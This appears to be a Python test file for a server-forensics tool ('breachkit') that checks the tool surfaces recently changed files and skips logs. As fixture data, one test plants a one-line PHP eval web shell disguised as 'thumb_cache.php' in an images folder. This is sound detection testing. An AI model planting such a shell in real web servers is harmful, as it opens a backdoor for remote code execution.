"""The first look: the newest changes, logs and caches left out, memory bounded."""

from __future__ import annotations

import os
from pathlib import Path

from breachkit.analyze import quick
from breachkit.sources.root import RootSource
from tests.serverfs import clean_server, write


def run(root: Path, limit: int = 15) -> quick.QuickResult:
    source = RootSource(str(root))
    try:
        return quick.analyze(source, limit)
    finally:
        source.close()


def test_newest_changes_first_without_logs(tmp_path: Path) -> None:
    clean_server(tmp_path)
    shell = write(tmp_path, "/var/www/shop/images/thumb_cache.php", "<?php @eval($_POST['x']); ?>")
    log = write(tmp_path, "/var/log/apache2/access.log", "GET / HTTP/1.1\n")
    # Inode changes cannot be set back from userspace: give the others an older ctime by
    # touching the newest file last.
    os.utime(shell, ns=(1, 1))
    os.chmod(shell, 0o644)
    os.chmod(log, 0o640)
    result = run(tmp_path, limit=3)
    (finding,) = result.findings
    paths = [e.path for e in finding.evidence]
    assert "/var/log/apache2/access.log" not in paths
    assert "/var/www/shop/images/thumb_cache.php" in paths
    assert len(paths) == 3
    assert result.entries > 10 and result.warnings == 0


def test_empty_tree(tmp_path: Path) -> None:
    result = run(tmp_path)
    assert result.findings == ()
    assert result.entries == 1
